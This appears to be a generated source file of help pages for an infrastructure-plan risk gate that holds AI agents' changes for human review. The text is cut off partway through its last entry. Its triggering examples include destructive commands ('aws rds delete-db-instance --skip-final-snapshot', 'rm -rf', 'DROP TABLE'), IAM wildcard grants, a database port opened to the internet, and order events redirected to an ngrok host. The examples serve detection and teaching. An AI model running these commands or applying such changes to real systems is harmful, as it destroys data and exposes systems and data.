// Generated from docs/rules/ by `npm run generate`. Do not edit.
export interface RulePage {
  readonly id: string;
  readonly title: string;
  readonly channel: string;
  /** Markdown. */
  readonly help: string;
}

export const RULE_PAGES: readonly RulePage[] = [
  {
    "id": "access-created",
    "title": "A credential, identity or grant comes into being, or something that silences a guard",
    "channel": "security",
    "help": "## What it finds\n\nThe creation of something that is access in itself: an access key, a service account key, a user, a role binding, a group membership. Also of something that holds a guard back while it lasts: a downtime or mute rule of alarms, a suppression of security signals. Which types these are, and how much each grants, is in the knowledge.\n\n## Why it hurts\n\nA credential outlives the change that made it, is easily copied, and is seldom looked for afterwards. Keys also end up in the state file.\n\n## A plan that fires\n\n```diff\n+resource \"aws_iam_access_key\" \"deploy\" {\n+  user = aws_iam_user.deploy.name\n+}\n```\n\n## A better plan\n\nLet the workload take a role instead of holding a key: there is nothing to leak, and nothing to rotate.\n\n```hcl\nresource \"aws_iam_role\" \"deploy\" {\n  name               = \"deploy\"\n  assume_role_policy = data.aws_iam_policy_document.github_oidc.json\n}\n```\n\n## Accepting the risk\n\nNew access is part of ordinary work, so on its own it rarely reaches a block. A reviewer should know who will hold it and when it ends."
  },
  {
    "id": "administrator-granted",
    "title": "Somebody becomes an administrator",
    "channel": "security",
    "help": "## What it finds\n\nAn identity that gets everything: a managed policy such as `AdministratorAccess`, a role such as `roles/owner`, `Owner` or `cluster-admin`, or a policy document that allows `*` on `*`. An assignment of AWS's IAM Identity Center counts by the name of its permission set: the one that it refers to, or the one in its own key (`this[\"111111111111-Ops-AdministratorAccess\"]`). It fires only where the state before did not grant the same already.\n\n## Why it hurts\n\nAn administrator can undo every other safeguard, this gate included. It is a hard stop: no threshold lets an agent do it in production.\n\n## A plan that fires\n\n```diff\n resource \"aws_iam_role_policy_attachment\" \"ci\" {\n   role       = aws_iam_role.ci.name\n-  policy_arn = \"arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess\"\n+  policy_arn = \"arn:aws:iam::aws:policy/AdministratorAccess\"\n }\n```\n\n## A better plan\n\nGrant the actions that the task needs, on the resources that it touches.\n\n```hcl\ndata \"aws_iam_policy_document\" \"ci\" {\n  statement {\n    actions   = [\"s3:PutObject\"]\n    resources = [\"${aws_s3_bucket.artifacts.arn}/*\"]\n  }\n}\n```\n\n## Accepting the risk\n\nA person makes the change and another approves it. Lowering it in the policy file is not possible for agents in production."
  },
  {
    "id": "approval-removed",
    "title": "A pipeline no longer waits for a person",
    "channel": "security",
    "help": "## What it finds\n\nA stage of a pipeline that was a manual approval and is gone, and settings by which runs are applied, promoted or merged by themselves (`auto_apply`, `auto_approve`), or no longer ask (`require_approval`).\n\n## Why it hurts\n\nThe next change of that pipeline reaches production without anybody having looked at it: the very thing that Blastgate is there to prevent. A person has to look at it.\n\n## A plan that fires\n\n```diff\n resource \"tfe_workspace\" \"production\" {\n-  auto_apply = false\n+  auto_apply = true\n }\n```\n\n## A better plan\n\nKeep the approval, and let its group be larger, so that it does not hold anybody up. Deliver automatically to staging first.\n\n## Accepting the risk\n\nLet a person make this change, with the reason in the pull request."
  },
  {
    "id": "capacity-reduced",
    "title": "Serving capacity falls, or is taken away",
    "channel": "outage",
    "help": "## What it finds\n\nFewer instances, replicas, nodes or units of throughput than before, changed in place: `desired_count`, `replicas`, `node_count`, `min_size` and their like. Zero, or what is left at a hundredth, counts most.\n\n## Why it hurts\n\nWhat is left must carry the same traffic. Scaled to zero, a service is as gone as a destroyed one, in a plan that reads `0 to destroy`.\n\n## A plan that fires\n\n```diff\n resource \"aws_ecs_service\" \"checkout\" {\n-  desired_count = 6\n+  desired_count = 0\n }\n```\n\n## A better plan\n\nScale down in steps, and keep what serves above what its traffic needs. Where an autoscaler decides, leave the count to it:\n\n```hcl\nlifecycle {\n  ignore_changes = [desired_count]\n}\n```\n\n## Accepting the risk\n\nIf the service is being retired, say so in the pull request and let a person approve. A sandbox that is scaled to zero at night scores a fraction of this."
  },
  {
    "id": "change-itself",
    "title": "Something changes at all",
    "channel": "base",
    "help": "## What it finds\n\nAny change: a few points at most, less for tags alone, a little more where the type could do much harm.\n\n## Why it hurts\n\nEvery change can go wrong in a way that no rule knows. These points make sure that none is free, and that they never decide by themselves: three hundred of them are still a pass.\n\n## A plan that fires\n\n```diff\n resource \"aws_cloudwatch_log_group\" \"app\" {\n   tags = {\n-    Team = \"orders\"\n+    Team = \"checkout\"\n   }\n }\n```\n\n## A better plan\n\nThere is none: this is what a routine plan looks like. A plan of one idea is easier to judge than a plan of ten.\n\n## Accepting the risk\n\nNothing needs to be accepted. Where these points are the only ones, the plan passes."
  },
  {
    "id": "content-hidden",
    "title": "A value that decides about safety cannot be seen",
    "channel": "security",
    "help": "## What it finds\n\nAn attribute that decides about safety (a policy, a rule, a protection switch) changes, but its value is known only after apply, or was redacted before Blastgate saw it. It counts as a moderate risk. So does a role, a policy or a security group that is added by a change set without property values: describe it with `--include-property-values`. A value that is merely marked sensitive is not hidden: it is judged, and never shown.\n\n## Why it hurts\n\nA change that cannot be seen cannot be called safe. If it counted as nothing, computing a policy would be the way to hide one.\n\n## A plan that fires\n\n```diff\n resource \"aws_s3_bucket_policy\" \"reports\" {\n-  policy = data.aws_iam_policy_document.reports.json\n+  policy = terraform_data.rendered_policy.output\n }\n```\n\n## A better plan\n\nUse what can be known at plan time: `data \"aws_iam_policy_document\"`, locals and variables rather than the output of something that the same plan changes. Or apply in two steps, so that the second plan shows the value. If a tool redacts your plans, hand Blastgate the plan from before.\n\n## Accepting the risk\n\nA reviewer who knows what the value will be may approve. The report names the attribute, not a guess at its content."
  },
  {
    "id": "data-expiry",
    "title": "Data is set to expire, or to expire sooner",
    "channel": "protection",
    "help": "## What it finds\n\nRetention that is shortened, or an expiry that is added: lifecycle rules of buckets, `ttl` of tables, `retention_in_days` of log groups, expirations of datasets. Longer retention stays quiet.\n\n## Why it hurts\n\nNothing is destroyed today, so the plan looks harmless. Hours later the service deletes what is older, and no plan will show it.\n\n## A plan that fires\n\n```diff\n resource \"aws_s3_bucket_lifecycle_configuration\" \"invoices\" {\n   rule {\n     id     = \"tidy\"\n     status = \"Enabled\"\n+    expiration {\n+      days = 30\n+    }\n   }\n }\n```\n\n## A better plan\n\nMove old objects to cheaper storage instead of deleting them, and limit a rule to what may go.\n\n```hcl\nfilter {\n  prefix = \"tmp/\"\n}\ntransition {\n  days          = 30\n  storage_class = \"GLACIER_IR\"\n}\n```\n\n## Accepting the risk\n\nCheck with the data's owner how long it must be kept, and copy what must stay. Then let a person approve."
  },
  {
    "id": "data-loss",
    "title": "An object that holds what code cannot rebuild is destroyed",
    "channel": "data",
    "help": "## What it finds\n\nA database, bucket, disk, queue, key, zone or other object that holds what code cannot rebuild is deleted or replaced. Mitigations that hold _before_ the change lower it: deletion protection, a final snapshot, retained backups, versioning. The sentence names those that were counted.\n\n## Why it hurts\n\nAn apply can recreate the object but not what was in it. In production, a loss that nothing mitigates is a hard stop for agents.\n\n## A plan that fires\n\n```diff\n resource \"aws_db_instance\" \"orders\" {\n-  storage_encrypted   = false\n+  storage_encrypted   = true    # forces replacement\n   skip_final_snapshot = true\n }\n```\n\n## A better plan\n\nKeep the object. Restore a snapshot beside it under a new name, move over, and remove the old one later and on its own.\n\n```hcl\nresource \"aws_db_instance\" \"orders_encrypted\" {\n  identifier          = \"orders-encrypted\"\n  snapshot_identifier = aws_db_snapshot.copy.id\n  storage_encrypted   = true\n  deletion_protection = true\n}\n```\n\nIf only the address changed, a `moved` block replaces nothing.\n\n## Accepting the risk\n\nTake a backup outside the plan, prove that it restores, and say where it is. Then a person who did not write the change approves. `blastgate explain` shows what each mitigation would take off."
  },
  {
    "id": "database-setting-weakened",
    "title": "A setting of a database engine no longer guards what it guarded",
    "channel": "security",
    "help": "## What it finds\n\nIn a parameter group, in the flags of a server, or in an object that is one setting: encryption on the way that is no longer asked for (`rds.force_ssl`, `require_secure_transport`), an audit log that is off (`pgaudit.log`, `server_audit_logging`), writes that are confirmed before they are safe (`fsync`, `synchronous_commit`, `sync_binlog`), the log that replicas and restores are made from, and a database that refuses every write (`read_only`). Settings that only say what is logged, or how long one waits, count next to nothing.\n\n## Why it hurts\n\nThe database itself goes on, and nothing in the plan's address tells what the setting meant.\n\n## A plan that fires\n\n```diff\n resource \"aws_db_parameter_group\" \"orders\" {\n   parameter {\n     name  = \"rds.force_ssl\"\n-    value = \"1\"\n+    value = \"0\"\n   }\n }\n```\n\n## A better plan\n\nLeave the setting on and give the one client that needs it a way of its own, or an end: a date by which it is on again.\n\n## Accepting the risk\n\nSay which clients cannot do without, and let a person approve."
  },
  {
    "id": "destructive-code",
    "title": "Applying runs code that deletes or destroys, past everything that a plan shows",
    "channel": "code",
    "help": "## What it finds\n\nA provisioner's command, an `external` program or an action that the apply would run, and that deletes, drops, terminates or overwrites by what it says: `aws rds delete-db-instance`, `rm -rf`, `DROP TABLE`, `terraform destroy`, `kubectl delete`. So is a schedule of AWS that begins to call an operation which deletes or stops (`aws-sdk:rds:stopDBInstance`), a job of Google's scheduler that sends a `DELETE` to one of Google's interfaces, and, as less, a state machine that calls such an operation. Commands that cannot be read from the plan are no finding but a condition: at least a review for an agent.\n\n## Why it hurts\n\nA plan shows one harmless `terraform_data`. What its command destroys is in no row, no count and no state, and it runs with the credentials of the runner.\n\n## A plan that fires\n\n```diff\n+resource \"terraform_data\" \"cleanup\" {\n+  provisioner \"local-exec\" {\n+    command = \"aws rds delete-db-instance --db-instance-identifier orders --skip-final-snapshot\"\n+  }\n+}\n```\n\n## A better plan\n\nLet the resource that manages the object destroy it, so that the plan says so and its protections hold. Run one-off commands by hand, or in a pipeline that a person starts.\n\n## Accepting the risk\n\nRead the command as if you were about to type it. A person who would is the one to approve. Remove the provisioner afterwards: it runs again with the next replacement."
  },
  {
    "id": "disruptive-update",
    "title": "A change in place interrupts a service",
    "channel": "outage",
    "help": "## What it finds\n\nAn in-place change that restarts, fails over or re-routes: an instance class, an engine version, a port, a DNS record's target. The knowledge lists these per type. A delegation (an `NS` record) counts more than other records, a route, listener or ingress that drops one of its hosts counts as the outage that it is, and a policy of API Management counts once more than its comments change. What waits for a maintenance window counts less.\n\n## Why it hurts\n\n`0 to destroy` does not mean that nobody notices. A database that changes its class is away for minutes; a record with a wrong target until its TTL is over.\n\n## A plan that fires\n\n```diff\n resource \"aws_db_instance\" \"orders\" {\n-  instance_class    = \"db.r6g.large\"\n+  instance_class    = \"db.r6g.xlarge\"\n   apply_immediately = true\n }\n```\n\n## A better plan\n\nLet it wait for the maintenance window, or fail over to a changed standby.\n\n```hcl\napply_immediately = false\n```\n\n## Accepting the risk\n\nName the time at which it is applied and who watches it. A reviewer is all that it usually takes."
  },
  {
    "id": "enters-management",
    "title": "An existing object is brought under management",
    "channel": "control",
    "help": "## What it finds\n\nAn `import` block or a row that imports: an object that exists is put under this configuration.\n\n## Why it hurts\n\nImporting changes nothing by itself. It is how a later plan gets the power to change and destroy the object, so it is written down with a few points.\n\n## A plan that fires\n\n```diff\n+import {\n+  to = aws_s3_bucket.archive\n+  id = \"company-archive\"\n+}\n```\n\n## A better plan\n\nImport alone, see that the next plan is empty, and only then change anything. An import that also updates the object in the same plan is judged for that update too.\n\n## Accepting the risk\n\nNothing needs to be accepted; the import passes by itself."
  },
  {
    "id": "environment-label-lowered",
    "title": "An object is relabelled as a less critical environment",
    "channel": "protection",
    "help": "## What it finds\n\nA tag or label that says `production` (or `staging`) is changed in place to something less critical.\n\n## Why it hurts\n\nBlastgate, and many a script, tell environments by these labels. Relabelled today, the database can be destroyed tomorrow as somebody's sandbox. It is a hard stop for agents in production.\n\n## A plan that fires\n\n```diff\n resource \"aws_db_instance\" \"orders\" {\n   tags = {\n-    Environment = \"production\"\n+    Environment = \"dev\"\n   }\n }\n```\n\n## A better plan\n\nIf the object was mislabelled, correct the label in a pull request of its own, by a person, with the reason. If it is being retired, keep the label until it is gone.\n\n## Accepting the risk\n\nIt cannot be accepted for an agent in production. A person makes the change."
  },
  {
    "id": "guardrail-removed",
    "title": "An object that guards, filters or records is deleted",
    "channel": "security",
    "help": "## What it finds\n\nThe deletion of something whose purpose is to guard, filter or record: an audit trail, a web ACL, a public-access block, an organization policy, a branch ruleset, an alarm.\n\nA guard that is made anew for another object (a lock with another scope, a policy attached to another account) is taken from the old one, and counts for less.\n\n## Why it hurts\n\nNothing stops working, which is why it goes unnoticed. From then on, nobody sees or stops what comes next. Audit trails and organization-wide guards are hard stops for agents in production.\n\n## A plan that fires\n\n```diff\n-resource \"aws_cloudtrail\" \"organization\" {\n-  name           = \"organization\"\n-  s3_bucket_name = aws_s3_bucket.audit.id\n-}\n```\n\n## A better plan\n\nPut the new guard in place first, in a plan of its own, and see it work. Remove the old one afterwards. If only its address changed, use a `moved` block.\n\n## Accepting the risk\n\nSomebody who answers for security approves, and knows what takes its place."
  },
  {
    "id": "leaves-management",
    "title": "An object stays, but nothing manages it any more",
    "channel": "control",
    "help": "## What it finds\n\nA `removed` block with `destroy = false`, or a CloudFormation resource that leaves its stack with `DeletionPolicy: Retain`: the object stays, but no configuration names it any more.\n\n## Why it hurts\n\nNothing is lost now. But no plan will show when somebody changes or deletes it, it drifts, and its cost has no owner. It counts more for data and for what an environment hangs on.\n\n## A plan that fires\n\n```diff\n-resource \"aws_dynamodb_table\" \"sessions\" {\n-  name = \"sessions\"\n-}\n+removed {\n+  from = aws_dynamodb_table.sessions\n+  lifecycle {\n+    destroy = false\n+  }\n+}\n```\n\n## A better plan\n\nImport it into the configuration that will own it, in the same piece of work, and say so in the pull request.\n\n## Accepting the risk\n\nA reviewer who knows the new owner is enough."
  },
  {
    "id": "locked-out",
    "title": "A policy of a key or a store locks out those who run it",
    "channel": "outage",
    "help": "## What it finds\n\nA key's policy after which nobody may change the key or its policy any more, where somebody could before, and a resource's own policy (bucket, queue, topic, secret, key, registry, endpoint) with a new denial for everybody of what the resource is there for: without a condition, or for whoever comes from elsewhere than one network, endpoint or range of addresses, where nobody is excepted. A denial of deletion, or one with another condition, is none.\n\n## Why it hurts\n\nA denial counts before every permission, those of administrators included. A bucket can then be opened by the account's root user only, a key by nobody: AWS support has to be asked.\n\n## A plan that fires\n\n```diff\n resource \"aws_kms_key\" \"data\" {\n-  # statement \"Root\": kms:* for arn:aws:iam::111122223333:root\n   policy = data.aws_iam_policy_document.only_the_application.json\n+  bypass_policy_lockout_safety_check = true\n }\n```\n\n## A better plan\n\nKeep the statement that lets the account administer the key, and leave the safety check on. Give a denial a condition that names who is meant.\n\n## Accepting the risk\n\nName who can still undo it, try that first, and let a person approve."
  },
  {
    "id": "network-exposed",
    "title": "The internet can reach what it could not",
    "channel": "security",
    "help": "## What it finds\n\nA security group, firewall, authorized network or access list that lets the whole internet (or nearly all of it) reach a port that it could not reach before. Ports that are meant for the public, such as 443, count far less than databases, remote shells and control planes. A network ACL counts less than a security group, and a new one not at all: a network without one lets everything through.\n\n## Why it hurts\n\nWhatever listens there is tried within minutes. Only what is worse than before counts: a rule that was open already is no news.\n\n## A plan that fires\n\n```diff\n resource \"aws_security_group\" \"db\" {\n   ingress {\n     from_port   = 5432\n     to_port     = 5432\n     protocol    = \"tcp\"\n-    cidr_blocks = [\"10.0.0.0/16\"]\n+    cidr_blocks = [\"0.0.0.0/0\"]\n   }\n }\n```\n\n## A better plan\n\nOpen it to those who need it: another security group, a VPN's range, a private endpoint.\n\n```hcl\ningress {\n  from_port       = 5432\n  to_port         = 5432\n  protocol        = \"tcp\"\n  security_groups = [aws_security_group.app.id]\n}\n```\n\n## Accepting the risk\n\nIf it is meant for the public, put a load balancer on 443 in front of it. Otherwise somebody who answers for security approves."
  },
  {
    "id": "outage-on-destroy",
    "title": "An object that serves others is destroyed or replaced",
    "channel": "outage",
    "help": "## What it finds\n\nAn object that serves others (a load balancer, a network, a cluster, a zone, a service) is destroyed, or replaced. Destroyed first counts nearly in full, the new one first a fraction, unless something outside the plan holds its name or address. A load balancer that moves between the internet and the inside counts in full in either order. The entry of a network ACL counts by whom it let through, and little where the same plan adds another that does. What depends on it raises the points.\n\n## Why it hurts\n\nBetween destroy and create there is nothing, and a create can fail half-way. What an environment hangs off is a hard stop for agents in production.\n\n## A plan that fires\n\n```diff\n resource \"aws_lb\" \"public\" {\n-  name = \"orders\"\n+  name = \"orders-public\"    # forces replacement, the old one first\n }\n```\n\n## A better plan\n\nMake the new one first, or do not replace at all.\n\n```hcl\nlifecycle {\n  create_before_destroy = true\n}\n```\n\nA name that cannot exist twice (`name_prefix` helps), and a DNS name that others have written down, still move: keep both until they have.\n\n## Accepting the risk\n\nAgree on a time, tell who depends on it (the report lists them), and let a person approve."
  },
  {
    "id": "privileged-workload",
    "title": "A workload gains rights over the machine that runs it",
    "channel": "security",
    "help": "## What it finds\n\nA container or pod that becomes privileged, runs as part of the host (`hostNetwork`, `hostPID`), or mounts the host's files or the container runtime's socket.\n\n## Why it hurts\n\nWhoever breaks into such a workload has the machine and everything else that runs on it.\n\n## A plan that fires\n\n```diff\n resource \"kubernetes_deployment\" \"agent\" {\n   spec {\n     template {\n       spec {\n         container {\n           security_context {\n-            privileged = false\n+            privileged = true\n           }\n         }\n       }\n     }\n   }\n }\n```\n\n## A better plan\n\nGrant the one capability that is missing.\n\n```hcl\nsecurity_context {\n  privileged = false\n  capabilities {\n    add = [\"NET_ADMIN\"]\n  }\n}\n```\n\n## Accepting the risk\n\nNode agents (network, storage, monitoring) sometimes need it. Keep them apart from other workloads, and let somebody who answers for the cluster approve."
  },
  {
    "id": "privileges-widened",
    "title": "A policy allows more than before",
    "channel": "security",
    "help": "## What it finds\n\nA policy that allows more than before: new actions or wildcards, more resources, another principal that may assume a role, a condition that was dropped, a `Deny` that is gone. Actions by which an identity can give itself more (`iam:PassRole`, `iam:PutRolePolicy`, `sts:AssumeRole` on `*`) count most.\n\n## Why it hurts\n\nRights are used by whoever steals the credentials, and are hardly ever taken back.\n\n## A plan that fires\n\n```diff\n data \"aws_iam_policy_document\" \"worker\" {\n   statement {\n-    actions   = [\"s3:GetObject\"]\n-    resources = [\"${aws_s3_bucket.input.arn}/*\"]\n+    actions   = [\"s3:*\"]\n+    resources = [\"*\"]\n   }\n }\n```\n\n## A better plan\n\nName the actions and the resources; keep the conditions.\n\n```hcl\nstatement {\n  actions   = [\"s3:GetObject\", \"s3:ListBucket\"]\n  resources = [aws_s3_bucket.input.arn, \"${aws_s3_bucket.input.arn}/*\"]\n}\n```\n\n## Accepting the risk\n\nPolicies are compared by what they grant, not evaluated as the cloud would, so a grant that a boundary forbids is still named. Say so in the pull request and let a person approve."
  },
  {
    "id": "protection-removed",
    "title": "A safety net is taken away: deletion protection, backups, versioning",
    "channel": "protection",
    "help": "## What it finds\n\nA safety net that is switched off or thinned in place: deletion protection, termination protection, backups and their retention, versioning, point-in-time recovery, `force_destroy`, `skip_final_snapshot`. Backups switched off are a hard stop for agents in production.\n\n## Why it hurts\n\nNothing is lost by this plan. It is the step before the loss: with the net gone, the next mistake is final, and the next plan's loss is no longer mitigated.\n\n## A plan that fires\n\n```diff\n resource \"aws_db_instance\" \"orders\" {\n-  deletion_protection     = true\n-  backup_retention_period = 14\n+  deletion_protection     = false\n+  backup_retention_period = 0\n }\n```\n\n## A better plan\n\nKeep the net until the object really goes. Where a migration needs it off, do it in a plan of its own, and turn it on again in the next.\n\n## Accepting the risk\n\nSay what the plan after this one will do. A person approves both."
  },
  {
    "id": "public-access",
    "title": "A policy, member list or ACL grants something to everybody",
    "channel": "security",
    "help": "## What it finds\n\nA bucket policy, ACL, member list, image or snapshot permission that names everybody: `Principal: \"*\"` without a condition, `allUsers`, `public-read`, `system:unauthenticated`, every mailbox of Google's (`domain:gmail.com`), or a rule of a mesh that has no condition. It fires only where it was not public before.\n\n## Why it hurts\n\nWhat is public is copied, indexed and kept by others. Making it private again brings nothing back.\n\n## A plan that fires\n\n```diff\n resource \"aws_s3_bucket_acl\" \"reports\" {\n   bucket = aws_s3_bucket.reports.id\n-  acl    = \"private\"\n+  acl    = \"public-read\"\n }\n```\n\n## A better plan\n\nServe what is meant for the public through something that stands in front of it, and leave the store private.\n\n```hcl\nresource \"aws_cloudfront_origin_access_control\" \"site\" {\n  name                              = \"site\"\n  origin_access_control_origin_type = \"s3\"\n  signing_behavior                  = \"always\"\n  signing_protocol                  = \"sigv4\"\n}\n```\n\n## Accepting the risk\n\nIf the content is public by purpose, say what it is. Somebody who answers for it approves."
  },
  {
    "id": "restriction-relaxed",
    "title": "A setting that held something back lets it by",
    "channel": "security",
    "help": "## What it finds\n\nA word of a setting, or the name of a block, changes from one that holds back to one that lets by: `BLOCK` to `COUNT` or `ALLOW`, `required` to `optional`, `TLS` to `PLAINTEXT`, `https-only` to `allow-all`, a signed-in caller to `NONE`, `PRIVATE_ONLY` to `PUBLIC_ONLY`, a managed group of a web firewall whose override goes from `none` to `count`, a policy of API Management that loses `validate-jwt` or `rate-limit`. It looks at every attribute of every type, below single blocks and in lists of rules, since providers have hundreds of such settings under names of their own.\n\n## Why it hurts\n\nThe guard is still there and still green in every list, but it guards no more. Such a change reads like tuning and is one word long.\n\n## A plan that fires\n\n```diff\n resource \"aws_wafv2_web_acl\" \"shop\" {\n   rule {\n     name = \"bad-inputs\"\n     action {\n-      block {}\n+      count {}\n     }\n   }\n }\n```\n\n## A better plan\n\nLet a new rule count first, and block when it is known what it meets; not the other way round. Where a client cannot do what is asked of it, make an exception for that client, with an end.\n\n## Accepting the risk\n\nSay who cannot be served otherwise, and until when."
  },
  {
    "id": "retention-policy-removed",
    "title": "The policy that keeps an object when its resource goes is taken away",
    "channel": "protection",
    "help": "## What it finds\n\nA CloudFormation resource that holds data loses its `DeletionPolicy` or `UpdateReplacePolicy` of `Retain` or `Snapshot`.\n\n## Why it hurts\n\nThe policy is what keeps the data when the resource leaves the stack or is replaced. Without it the next removal is final, and the stack's deletion takes the data along.\n\n## A plan that fires\n\n```diff\n Orders:\n   Type: AWS::DynamoDB::Table\n-  DeletionPolicy: Retain\n-  UpdateReplacePolicy: Retain\n+  DeletionPolicy: Delete\n```\n\n## A better plan\n\nKeep both policies on everything that holds data. `RetainExceptOnCreate` keeps them from getting in the way of a stack that failed to be created.\n\n## Accepting the risk\n\nSay what becomes of the data, and let a person approve."
  },
  {
    "id": "runs-less-often",
    "title": "What runs on a schedule runs far less often",
    "channel": "outage",
    "help": "## What it finds\n\nA schedule (`rate(…)`, `cron(…)` or the five fields of a crontab) in an attribute such as `schedule`, `schedule_expression` or `cron`, after which at least seven times as long lies between two runs as before: from daily to weekly, from hourly to daily. Backup plans count as a loss of backups, what records and checks as a loss of that, the rest as a small disruption. Another hour of the day, or more runs, is quiet.\n\n## Why it hurts\n\nA backup that is made once a month is found out on the day on which the last one is four weeks old. Nothing is removed, so nobody looks.\n\n## A plan that fires\n\n```diff\n resource \"aws_backup_plan\" \"daily\" {\n   rule {\n-    schedule = \"cron(0 3 * * ? *)\"\n+    schedule = \"cron(0 3 1 * ? *)\"\n   }\n }\n```\n\n## A better plan\n\nKeep the backups as frequent as the loss that can be borne, and save on how long they are kept, or on where.\n\n## Accepting the risk\n\nSay how much may be lost, and who agreed to that."
  },
  {
    "id": "security-setting-weakened",
    "title": "A setting that keeps others out, or records what they do, gets weaker",
    "channel": "security",
    "help": "## What it finds\n\nA switch or a list that keeps others out or records what they do gets weaker: encryption or TLS off, logging off, MFA not required, a web ACL or a permissions boundary taken away, an authentication method dropped, a list of logs that no longer names the ones that tell who does what. Which attributes these are is in the knowledge; names that mean the same on every type count on unlisted types too.\n\n## Why it hurts\n\nEach of these is a layer that an attacker would otherwise have to get through, or a record that you would want afterwards. Audit logs and organization guards are hard stops for agents in production.\n\n## A plan that fires\n\n```diff\n resource \"aws_eks_cluster\" \"main\" {\n-  enabled_cluster_log_types = [\"api\", \"audit\", \"authenticator\"]\n+  enabled_cluster_log_types = []\n }\n```\n\n## A better plan\n\nKeep the setting and solve what made it a nuisance: a filter for a log's volume, an exception for the one client that cannot do TLS.\n\n## Accepting the risk\n\nSomebody who answers for security approves, with a date by which it is on again."
  },
  {
    "id": "sent-elsewhere",
    "title": "What is sent, fetched or come back to goes to another domain than before",
    "channel": "security",
    "help": "## What it finds\n\nA webhook, a push endpoint, a contact point, a callback of a login, an issuer of tokens, a chart's repository or an address of mail in whose place, or beside which, one of a domain stands that was not there before. Hosts below a name that everybody can have (`vercel.app`, `ngrok.app`, `amazonaws.com`) are compared whole. Places within the network (`localhost`, `10.0.0.7`, `*.svc`) are none. A program that runs at every sign-in counts by the addresses in it, an object of AWS that is written to by its account, and an image by its registry (of a registry that is everybody's, by whose part of it).\n\n## Why it hurts\n\nEvents, tokens, alarms and codes of a login go wherever the address says. One line sends orders to somebody else, and nothing breaks.\n\n## A plan that fires\n\n```diff\n resource \"google_pubsub_subscription\" \"orders\" {\n   push_config {\n-    push_endpoint = \"https://hooks.example.com/orders\"\n+    push_endpoint = \"https://orders-mirror.ngrok.app/in\"\n   }\n }\n```\n\n## A better plan\n\nKeep hooks and callbacks below a name that is yours, and move what answers behind it.\n\n## Accepting the risk\n\nA vendor that changes its name or a service that changes vendors does this once. The reviewer should know whose domain it is."
  },
  {
    "id": "switched-off",
    "title": "A service, alarm or guard is switched off in place",
    "channel": "outage",
    "help": "## What it finds\n\n`enabled`, `active`, `suspended`, `paused`, `state`, `status` and their like turn a whole object off in place, on types whose knowledge does not list that attribute, and in their schedule, trigger or rule. A switch of a part (`sending_enabled`, `enable_…`, `start_…`) counts less, and of a guard every switch counts; what is safer off, or only shows more, is quiet. What it counts for depends on what the object is: a service that stops, an alarm that no longer tells, a backup plan that no longer runs, a guard that no longer guards.\n\n## Why it hurts\n\nOne attribute, `0 to destroy`, and the object is as good as gone. Guards and backups that are switched off are hard stops for agents in production.\n\n## A plan that fires\n\n```diff\n resource \"aws_cloudwatch_event_rule\" \"nightly_backup\" {\n-  state = \"ENABLED\"\n+  state = \"DISABLED\"\n }\n```\n\n## A better plan\n\nIf it is not needed, remove it, so that the plan says so. If it is in the way for an hour, switch it off by hand for that hour: the next plan will show the drift.\n\n## Accepting the risk\n\nSay until when, and let a person approve."
  },
  {
    "id": "template-resource-removed",
    "title": "A stack inside the plan loses an object that the plan does not list",
    "channel": "outage",
    "help": "## What it finds\n\nA resource that carries a template of its own, and whose new template no longer holds what the old one held, or holds something of another type under the same name: `aws_cloudformation_stack`, `aws_cloudformation_stack_set`, `AWS::CloudFormation::StackSet`, and deployments of Azure in the mode `Complete`. What is removed weighs what its type weighs, its data and its outage each; a `DeletionPolicy` of `Retain` keeps it out, one of `Snapshot` counts in its favour. What a template brings or changes is judged by the rules for contents, as if the plan listed it. A template that cannot be read, or is known only after apply, is judged as a change that may interrupt.\n\n## Why it hurts\n\nThe plan shows one stack that is updated in place. The database in it is deleted by CloudFormation, minutes later, and stands in no row and no count.\n\n## A plan that fires\n\n```diff\n resource \"aws_cloudformation_stack\" \"data\" {\n   template_body = jsonencode({\n     Resources = {\n-      Orders = { Type = \"AWS::RDS::DBInstance\", Properties = { ... } }\n       Alarms = { Type = \"AWS::SNS::Topic\" }\n     }\n   })\n }\n```\n\n## A better plan\n\nGive the object `DeletionPolicy: Retain` in a change of its own first, and let that be deployed; then remove it from the template, and it stays. Better still, let Terraform manage it, so that its plan says what becomes of it.\n\n## Accepting the risk\n\nMake a change set of the stack and read what it removes. Name each object in the pull request, with where its data is kept."
  },
  {
    "id": "traffic-refused",
    "title": "Traffic that was let through is refused or answered with an error",
    "channel": "outage",
    "help": "## What it finds\n\n- A load balancer's listener or rule that forwarded to its targets and now answers by itself (`fixed-response`), and a web or network firewall whose default action turns from passing to blocking.\n- A network rule that turns from allowing to denying, and a list of rules (network ACL, security group of Azure, security policy of Google) in which a denial of the whole internet comes before what was allowed.\n- A new rule that denies everybody, early enough to come before what is usually allowed: of AWS, Google, Azure, Cloudflare and others. Not one for a single port of administration, one range, some machines, or one that comes last.\n- A route of a transit gateway or of Azure that comes to lead nowhere (a black hole, `next_hop_type = \"None\"`), in place or replaced. The default route counts most, since all that no other route is about is dropped.\n- A network ACL or a security group of Azure whose list loses the entry by which everybody came in.\n- A rule for one source, port or protocol that is for another one now, so that whoever came by it is turned away. One that is only narrowed is none.\n- A new policy that turns away whoever no other policy lets in: Kubernetes, Cilium, Calico, Istio, Consul. It scores less, since nobody can see from here who is let in.\n\nWhat is made together with the network, list or namespace that it is about is none of this.\n\n## Why it hurts\n\nNothing is destroyed and everything behind it runs on, but nobody reaches it.\n\n## A plan that fires\n\n```diff\n resource \"aws_lb_listener\" \"https\" {\n   default_action {\n-    type             = \"forward\"\n-    target_group_arn = aws_lb_target_group.web.arn\n+    type = \"fixed-response\"\n   }\n }\n```\n\n## A better plan\n\nFor maintenance, answer with an error on the path or host in question, by a listener rule of its own, and let the default action forward. In a network ACL, deny the range that is meant. Put a denial by default where it comes last, after the rules that let in what is needed.\n\n## Accepting the risk\n\nSay for how long, and let a person approve."
  },
  {
    "id": "undetermined-change",
    "title": "The tool has not decided what happens to an object",
    "channel": "control",
    "help": "## What it finds\n\nA row for which the tool itself has not decided what happens: deferred changes, empty actions. It counts by what the type could lose.\n\n## Why it hurts\n\nIt may turn out to be nothing, or a replacement. A plan that does not show it has not been reviewed by anybody.\n\n## A plan that fires\n\n```hcl\n# The keys are known only after the first apply, so the plan defers the buckets.\nresource \"aws_s3_bucket\" \"tenant\" {\n  for_each = toset(terraform_data.tenants.output)\n  bucket   = each.key\n}\n```\n\n## A better plan\n\nMake keys and counts known at plan time, or apply in two steps, so that a second plan shows the rest.\n\n## Accepting the risk\n\nThe plan is incomplete, so that it is at least a review for everybody. Judge the complete plan before it is applied."
  },
  {
    "id": "workload-code",
